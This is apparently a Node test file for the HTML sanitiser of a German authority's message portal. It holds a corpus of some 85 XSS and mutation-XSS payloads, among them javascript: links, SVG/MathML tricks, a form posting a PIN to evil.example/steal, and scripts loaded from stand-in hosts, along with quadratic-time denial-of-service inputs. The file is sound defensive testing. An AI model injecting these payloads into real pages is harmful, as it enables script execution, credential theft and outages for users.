import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type DefaultTreeAdapterMap, parse } from 'parse5';
import {
  HtmlTooComplexError,
  type InlineImage,
  MAX_OPEN_ELEMENTS,
  safeLinkTarget,
  sanitizeMessageHtml,
} from '../src/portal/message-html.ts';
import { frameDocument, MAX_HTML_CHARS } from '../src/portal/message-view.ts';

type Node = DefaultTreeAdapterMap['childNode'] | DefaultTreeAdapterMap['parentNode'];
type Element = DefaultTreeAdapterMap['element'];

const HTML_NS = 'http://www.w3.org/1999/xhtml';
const SAFE_TAGS = new Set(
  (
    'a abbr address b bdi blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption ' +
    'figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table ' +
    'tbody td tfoot th thead tr tt u ul var'
  ).split(' '),
);
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const IMAGES: InlineImage[] = [
  { cid: 'logo@behoerde.example', contentType: 'image/png', content: PNG },
  { cid: 'evil.svg@x', contentType: 'image/svg+xml', content: Buffer.from('<svg onload="alert(1)"/>') },
];

/** Every element of the body the way a browser builds it (parse5 is the WHATWG parser). */
function browserElements(html: string): Element[] {
  const document = parse(frameDocument({ html, remoteContentBlocked: false }, 'de'));
  const found: Element[] = [];
  const walk = (node: Node) => {
    if ('tagName' in node) found.push(node);
    if ('content' in node && node.content) walk(node.content as Node);
    if ('childNodes' in node) for (const child of node.childNodes) walk(child);
  };
  walk(document);
  const body = found.find((element) => element.tagName === 'body');
  assert.ok(body);
  return found.filter((element) => element !== body && isInside(element, body));
}

function isInside(element: Element, ancestor: Element): boolean {
  for (let node: Node | null = element.parentNode; node; node = 'parentNode' in node ? node.parentNode : null) {
    if (node === ancestor) return true;
  }
  return false;
}

/** What may appear in a sanitised body, checked on the browser's parse of it. */
function assertHarmless(html: string, payload: string) {
  for (const element of browserElements(html)) {
    const where = `<${element.tagName}> from ${JSON.stringify(payload)} → ${JSON.stringify(html)}`;
    assert.equal(element.namespaceURI, HTML_NS, `foreign content: ${where}`);
    assert.ok(SAFE_TAGS.has(element.tagName), `element not allowed: ${where}`);
    for (const { name, value } of element.attrs) {
      assert.ok(!/^on/i.test(name), `event handler ${name}: ${where}`);
      assert.ok(
        !['srcset', 'background', 'action', 'formaction', 'srcdoc', 'data', 'poster', 'xmlns', 'id', 'class'].includes(
          name,
        ),
        `attribute ${name}: ${where}`,
      );
      assert.ok(!name.includes(':'), `namespaced attribute ${name}: ${where}`);
      if (name === 'href') {
        assert.equal(element.tagName, 'a', where);
        assert.match(value, /^(https?:\/\/|mailto:)/, `href ${value}: ${where}`);
      }
      if (name === 'src') {
        assert.equal(element.tagName, 'img', where);
        assert.match(value, /^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/, `src ${value}: ${where}`);
      }
      if (name === 'style') assert.doesNotMatch(value, /url|expression|javascript|\\|@import|binding|\(/i, where);
      if (name === 'cite') assert.match(value, /^(https?:\/\/|mailto:)/, where);
    }
    if (element.tagName === 'a' && element.attrs.some((a) => a.name === 'href')) {
      assert.equal(element.attrs.find((a) => a.name === 'rel')?.value, 'noopener noreferrer', where);
      assert.equal(element.attrs.find((a) => a.name === 'target')?.value, '_blank', where);
    }
  }
}

// Each of these must leave nothing that runs, loads or navigates. Sources: OWASP XSS filter evasion cheat sheet,
// DOMPurify's and sanitize-html's mutation-XSS regressions (GHSA-x3q4-9hxx-gx8m, GHSA-jxwj-j7wr-gfrw), PortSwigger.
const XSS_CORPUS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">klick</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href=" &#14;  javascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="https://ok.example/" onmouseover="alert(1)" target="_top">a</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="/konto/loeschen">relative into the portal</a>',
  '<div style="background:url(javascript:alert(1))">c</div>',
  '<div style="width:expression(alert(1))">c</div>',
  '<div style="color:red;-moz-binding:url(https://evil.example/x.xml#xss)">c</div>',
  '<p style="color:\\65xpression(alert(1))">c</p>',
  '<p style="color: red; background-image: url(&quot;https://t.example/p.png&quot;)">c</p>',
  '<p style="font-family: x; /* */ color: expression(alert(1))">c</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://t.example/p)}</style><p>x</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>',
  '<base href="javascript:alert(1)//"><a href="x">a</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="javascript:alert(1)"><input type="submit" value="ok"></form>',
  '<form action="https://evil.example/steal" method="post"><input name="pin"><button>Senden</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)" type="image">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>x',
  '<marquee onstart=alert(1)>x</marquee>',
  '<img srcset="https://t.example/1.png 1x, x 2x">',
  '<img src="https://t.example/pixel.gif" width="1" height="1">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="cid:evil.svg@x">',
  '<table background="https://t.example/bg.png"><tr><td background="https://t.example/bg.png">x</td></tr></table>',
  '<div id="x" class="y" xmlns="http://www.w3.org/2000/svg">x</div>',
  '<a href="https://ok.example/" id="location">DOM clobbering</a>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<div><p>unclosed <b>nesting <i>all <u>over',
  `${'<div>'.repeat(500)}deep${'</div>'.repeat(500)}`,
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">quote break</a>',
  '<a href="mailto:a@b.example?subject=&quot;><script>alert(1)</script>">m</a>',
  '<img alt="&quot; onerror=&quot;alert(1)" src="cid:logo@behoerde.example">',
];

describe('an HTML body is sanitised to the allow-list', () => {
  it('is checked by a checker that does catch unsanitised markup', () => {
    for (const raw of [
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      '<svg><circle/></svg>',
      '<p style="background:url(x)">x</p>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ]) {
      assert.throws(() => assertHarmless(raw, raw), assert.AssertionError, raw);
    }
  });

  for (const payload of XSS_CORPUS) {
    it(`leaves nothing active of ${JSON.stringify(payload.slice(0, 90))}`, () => {
      const { html } = sanitizeMessageHtml(payload, IMAGES);
      assertHarmless(html, payload);
      assert.equal(sanitizeMessageHtml(html, IMAGES).html, html, 'sanitising again changes nothing');
      assert.doesNotMatch(html, /<\s*(script|style|svg|math|iframe|object|embed|form|input|base|meta|link)/i);
    });
  }

  it('keeps ordinary formatting, tables and safe styles', () => {
    const { html, remoteContentBlocked } = sanitizeMessageHtml(
      '<h1>Bescheid</h1><p style="color:#333;font-weight:bold;text-align:center">Sehr geehrte <i>Frau</i> Muster,</p>' +
        '<table border="1"><tr><th scope="col">A</th><td colspan="2" style="padding:4px 8px">B</td></tr></table>',
    );
    assert.equal(remoteContentBlocked, false);
    assert.equal(
      html,
      '<h1>Bescheid</h1><p style="color:#333;font-weight:bold;text-align:center">Sehr geehrte <i>Frau</i> Muster,</p>' +
        '<table border="1"><tr><th scope="col">A</th><td colspan="2" style="padding:4px 8px">B</td></tr></table>',
    );
  });

  it('opens links in a new context without opener or referrer, and only http(s) and mailto', () => {
    const { html } = sanitizeMessageHtml(
      '<a href="https://www.behoerde.example/formular?a=1&amp;b=2" target="_self" rel="opener">Formular</a> ' +
        '<a href="mailto:amt@behoerde.example">Mail</a> <a href="ftp://x.example/">ftp</a> <a href="#oben">oben</a>',
    );
    assert.equal(
      html,
      '<a href="https://www.behoerde.example/formular?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">Formular</a> ' +
        '<a href="mailto:amt@behoerde.example" rel="noopener noreferrer" target="_blank">Mail</a> <span>ftp</span> <span>oben</span>',
    );
  });

  it('shows inline images from the message only as data: URLs of raster types, and never from elsewhere', () => {
    const { html, remoteContentBlocked } = sanitizeMessageHtml(
      '<img src="cid:logo@behoerde.example" alt="Logo"><img src="CID:%3Clogo@behoerde.example%3E" alt="again">' +
        '<img src="cid:evil.svg@x" alt="svg"><img src="cid:missing@x" alt="fehlt">',
      IMAGES,
    );
    const dataUrl = `data:image/png;base64,${PNG.toString('base64')}`;
    assert.equal(
      html,
      `<img alt="Logo" src="${dataUrl}" /><img alt="again" src="${dataUrl}" /><span>svg</span><span>fehlt</span>`,
    );
    assert.equal(remoteContentBlocked, false);
  });

  it('says when it blocked content from elsewhere', () => {
    const blocked = [
      '<img src="https://t.example/p.gif" alt="">',
      '<img src="//t.example/p.gif">',
      '<p style="background:url(https://t.example/p.png)">x</p>',
      '<table background="http://t.example/bg.png"><tr><td>x</td></tr></table>',
      '<style>@import url(https://evil.example/x.css);</style>',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<video poster="https://t.example/p.png"></video>',
      '<img srcset="https://t.example/p.png 2x">',
    ];
    for (const payload of blocked) {
      assert.equal(sanitizeMessageHtml(payload).remoteContentBlocked, true, payload);
    }
    for (const payload of [
      '<p>x</p>',
      '<a href="https://ok.example/">link</a>',
      '<img src="cid:logo@behoerde.example">',
    ]) {
      assert.equal(sanitizeMessageHtml(payload, IMAGES).remoteContentBlocked, false, payload);
    }
  });

  it('does not inline images over the size limits', () => {
    const big: InlineImage = { cid: 'big@x', contentType: 'image/jpeg', content: Buffer.alloc(3 * 1024 * 1024) };
    assert.equal(sanitizeMessageHtml('<img src="cid:big@x" alt="gross">', [big]).html, '<span>gross</span>');
  });
});

// Each of these took time quadratic in its length: 240 KB of "<style" 10 s (a regular expression rescanning to the
// end from every start), 80,000 unclosed elements 4 s (htmlparser2 unshifts and searches its stack of open elements
// for every tag). At the 4 MB the page renders, either blocked the portal's event loop for everyone for minutes.
describe('hostile HTML as long as the page renders', { timeout: 60_000 }, () => {
  const fill = (unit: string, prefix = '') =>
    prefix + unit.repeat(Math.floor((MAX_HTML_CHARS - prefix.length) / unit.length));

  it('reads 4 MB of unfinished "<style" openings in one pass', () => {
    assert.deepEqual(sanitizeMessageHtml(fill('<style')), { html: '', remoteContentBlocked: false });
    assert.equal(
      sanitizeMessageHtml(fill('<style ', '<style>x{background:url(https://t.example/p.png)}')).remoteContentBlocked,
      true,
    );
  });

  it('refuses HTML with more elements open at once than MAX_OPEN_ELEMENTS, however they are opened', () => {
    assert.equal(sanitizeMessageHtml('<div>'.repeat(MAX_OPEN_ELEMENTS)).html.startsWith('<div><div>'), true);
    for (const unit of ['<div>', '<div></span>', '<b/>', '<font><br>']) {
      assert.throws(() => sanitizeMessageHtml(fill(unit)), HtmlTooComplexError, unit);
    }
    assert.throws(() => sanitizeMessageHtml('<div>'.repeat(MAX_OPEN_ELEMENTS + 1)), HtmlTooComplexError);
  });

  it('reads 4 MB of end tags that match nothing, or imply an element, just below MAX_OPEN_ELEMENTS open ones', () => {
    for (const unit of ['</i>', '</p>', '<br>', '<form>']) {
      const html = fill(unit, '<span>'.repeat(MAX_OPEN_ELEMENTS - 2));
      assert.match(sanitizeMessageHtml(html).html, /^<span><span>/, unit);
    }
  });

  it('reads colours as before, and a colour with 4 MB of blanks in one pass', () => {
    const colour = (value: string) => sanitizeMessageHtml(`<p style="color:${value}">x</p>`).html;
    for (const value of ['rgb(1, 2, 3)', 'rgba( 1%,2 ,3 , 0.5 )', 'RGBA(1,2,3,1)', 'rgba(1,2,3, .25)']) {
      assert.equal(colour(value), `<p style="color:${value}">x</p>`, value);
    }
    for (const value of ['rgb(1,2)', 'rgba(1,2,3,2)', 'rgb(1,2,3,)', 'rgba(1,2,3,0.5']) {
      assert.equal(colour(value), '<p>x</p>', value);
    }
    // `\s*` twice in a row before ")" read the blanks in every split: 100,000 took 5 s.
    assert.equal(colour(`rgb(1,0,0${fill(' ').slice(0, MAX_HTML_CHARS - 100)},0,2)`), '<p>x</p>');
  });

  it('reads 4 MB of flat paragraphs, tables and line breaks', () => {
    const html = fill('<p>x<table><tr><td>1<td>2</table><br>');
    assert.match(sanitizeMessageHtml(html).html, /^<p>x<\/p><table><tr><td>1<\/td><td>2<\/td><\/tr><\/table><br \/>/);
  });
});

describe('link targets', () => {
  const table: Array<[string, string | undefined]> = [
    ['https://a.example/x?y=1', 'https://a.example/x?y=1'],
    ['  HTTP://A.example  ', 'http://a.example/'],
    ['mailto:a@b.example', 'mailto:a@b.example'],
    ['javascript:alert(1)', undefined],
    ['https://a.example/\u0000x', undefined],
    ['https://a .example/', undefined],
    ['/relative', undefined],
    ['//a.example/', undefined],
    ['data:text/html,x', undefined],
  ];
  for (const [value, expected] of table) {
    it(`${JSON.stringify(value)} → ${JSON.stringify(expected)}`, () => assert.equal(safeLinkTarget(value), expected));
  }
});

describe('the frame document', () => {
  it('wraps the sanitised body in a head of our own', () => {
    const document = frameDocument({ html: '<p>x</p>', remoteContentBlocked: false }, 'en');
    assert.match(document, /^<!doctype html><html lang="en"><head><meta charset="utf-8">/);
    assert.match(document, /<body><p>x<\/p><\/body><\/html>$/);
    assert.match(frameDocument({ html: '', remoteContentBlocked: false }, '"><script>'), /<html lang="de">/);
  });
});
